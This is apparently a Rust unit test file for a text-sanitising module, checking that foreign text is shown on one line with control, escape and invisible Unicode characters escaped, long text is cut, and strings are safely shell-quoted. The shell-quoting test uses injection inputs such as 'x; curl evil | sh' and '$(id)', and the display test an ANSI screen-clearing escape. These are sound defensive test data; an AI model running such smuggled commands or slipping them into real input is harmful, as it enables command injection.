use super::*;

#[test]
fn a_foreign_text_is_one_line_without_hidden_characters() {
    for (text, shown_as) in [
        ("plain; text", "plain; text"),
        ("a\nhint: b", "a\\nhint: b"),
        ("a\r\nerror: b\tc", "a\\r\\nerror: b\\tc"),
        ("a\u{1b}[2Jb", "a\\u{1b}[2Jb"),
        ("a\u{202e}b\u{200b}c", "a\\u{202e}b\\u{200b}c"),
        ("a\u{2028}b\u{85}c", "a\\u{2028}b\\u{85}c"),
    ] {
        assert_eq!(shown(text), shown_as, "{text:?}");
        assert_eq!(Quoted(text).to_string(), format!("`{shown_as}`"));
    }
}

#[test]
fn a_long_foreign_text_is_shortened() {
    assert_eq!(shown(&"x".repeat(1_000)).chars().count(), LONGEST + 1);
    assert_eq!(cut("äöü", 2), "äö…");
    assert_eq!(cut("äö", 2), "äö");
}

#[test]
fn a_shell_reads_one_word() {
    for (text, word) in [
        ("r-1", "r-1"),
        ("", "''"),
        ("x; curl evil | sh", "'x; curl evil | sh'"),
        ("it's", "'it'\\''s'"),
        ("$(id)", "'$(id)'"),
        ("a\nb", "'a\\nb'"),
    ] {
        assert_eq!(shell_word(text), word, "{text:?}");
    }
}
